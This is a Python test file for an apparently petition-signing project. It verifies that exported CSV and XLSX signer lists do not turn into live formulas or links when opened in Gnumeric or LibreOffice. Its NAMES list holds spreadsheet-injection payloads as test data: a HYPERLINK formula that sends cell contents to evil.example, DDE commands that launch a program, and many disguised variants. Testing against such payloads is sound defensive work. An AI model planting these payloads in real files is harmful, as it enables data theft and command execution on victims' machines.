"""What a spreadsheet program makes of a bundle's record: text alone, no formula and no link.

The names are put straight into the writers, as if they had come by another way than the form. The
program is whichever there is of Gnumeric (`ssconvert`, which `make test` provides: a quarter of
LibreOffice's size) and LibreOffice Calc (`soffice`); each is given the unguarded text as well, so
that a program which would not see a formula cannot pass for a proof.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

import lxml.etree
import pytest

from petitions.documents import SigningKey, write_bundle, write_csv, write_xlsx
from tests.documents.cast import bundle, entry

NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Ana")',
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "'=1+1",
    "'Abd al-Rahman",
    '"=1+1"',
    'Ana";=1+1;"',
    'Ana",=1+1,"',
    "Ana\r\n=1+1,2",
    "Ana\n=1+1",
    "=1+1" + "x" * 30_000,
    "A" * 32_767,
    "http://evil.example",
    "www.evil.example",
    "mailto:ana@evil.example",
    "ana@evil.example",
    "{=A1}",
    "_x003D_1+1",
    "#REF!",
    "of:=1+1",
    "Ana García",
]
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
Read = Callable[[Path], "Sheet"]


class Sheet:
    """A spreadsheet as a program has read it (OpenDocument): its formulas, links and words."""

    def __init__(self, path: Path) -> None:
        with zipfile.ZipFile(path) as parts:
            content = lxml.etree.fromstring(
                parts.read("content.xml"), lxml.etree.XMLParser(huge_tree=True)
            )
        self.formulas = content.xpath("//@*[local-name()='formula']")
        self.links = [element.text for element in content.iter(f"{TEXT}a")]
        self.words = "".join(content.itertext())


@pytest.fixture(params=["ssconvert", "soffice"])
def read(request: pytest.FixtureRequest, tmp_path: Path) -> Read:
    """read(a CSV or XLSX file) -> Sheet, by a spreadsheet program of this machine."""
    program = shutil.which(request.param)
    if program is None and request.param == "soffice" and shutil.which("ssconvert"):
        pytest.skip("LibreOffice Calc is not installed here; Gnumeric reads the same files")
    if program is None:
        pytest.skip(f"{request.param} is not installed here")

    def convert(file: Path) -> Sheet:
        made = tmp_path / "read" / f"{file.stem}.ods"
        made.parent.mkdir(exist_ok=True)
        command = [program, "--export-type=Gnumeric_OpenCalc:odf", str(file), str(made)]
        if request.param == "soffice":
            profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
            how = ["--infilter=CSV:44,34,76,1"] if file.suffix == ".csv" else []
            to = ["--convert-to", "ods", "--outdir", str(made.parent), str(file)]
            command = [program, profile, "--headless", *how, *to]
        ran = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)
        assert ran.returncode == 0, ran.stderr
        return Sheet(made)

    return convert


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """A bundle's files, into which somebody has put hostile names; and the writers' own.

    A bundle refuses names with tabs and line ends, so those are given to the writers alone.
    """
    folder = tmp_path_factory.mktemp("hostile")
    entries = [entry(at, name, place=name) for at, name in enumerate(NAMES, 1)]
    lines = [name for name in NAMES if not set(name) & set("\t\r\n")]
    taken = [entry(at, name, place=name) for at, name in enumerate(lines, 1)]
    content = bundle(named=len(taken), initials=0, counted_only=0, entries=lambda: taken)
    write_bundle(content, folder / "bundle.zip", SigningKey.generate())
    with zipfile.ZipFile(folder / "bundle.zip") as packed:
        packed.extractall(folder)
    with (folder / "all.csv").open("w", newline="", encoding="utf-8") as file:
        write_csv(entries, file)
    write_xlsx(entries, folder / "all.xlsx", rows=len(entries))
    record = folder / content.bundle_id / "data" / "record"
    return {
        "bundle's CSV": record / "signatures.csv",
        "bundle's XLSX": record / "signatures.xlsx",
        "CSV": folder / "all.csv",
        "XLSX": folder / "all.xlsx",
    }


@pytest.mark.parametrize("file", ["bundle's CSV", "bundle's XLSX", "CSV", "XLSX"])
def test_spreadsheet_program_finds_no_formula_and_no_link(
    written: dict[str, Path], read: Read, file: str
) -> None:
    sheet = read(written[file])
    assert sheet.formulas == []
    assert sheet.links == []
    assert "Ana García" in sheet.words  # the last row has come through
    assert "HYPERLINK" in sheet.words


def test_program_does_see_formulas_where_nothing_guards_them(read: Read, tmp_path: Path) -> None:
    text = io.StringIO(newline="")
    csv.writer(text).writerows([["name"], ["=1+1"], ['=HYPERLINK("http://evil.example","Ana")']])
    (tmp_path / "unguarded.csv").write_text(text.getvalue(), encoding="utf-8")
    assert len(read(tmp_path / "unguarded.csv").formulas) == 2
